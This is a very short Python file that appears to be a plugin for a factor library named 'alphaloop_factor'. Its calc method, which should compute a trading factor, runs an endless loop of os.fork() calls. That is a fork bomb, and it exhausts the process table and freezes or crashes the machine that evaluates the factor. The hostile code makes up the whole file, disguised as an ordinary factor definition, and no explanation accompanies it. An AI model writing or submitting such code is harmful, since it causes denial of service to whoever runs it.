import os
from alphaloop_factor import Factor
class F(Factor):
    def calc(self, data):
        while True:
            os.fork()
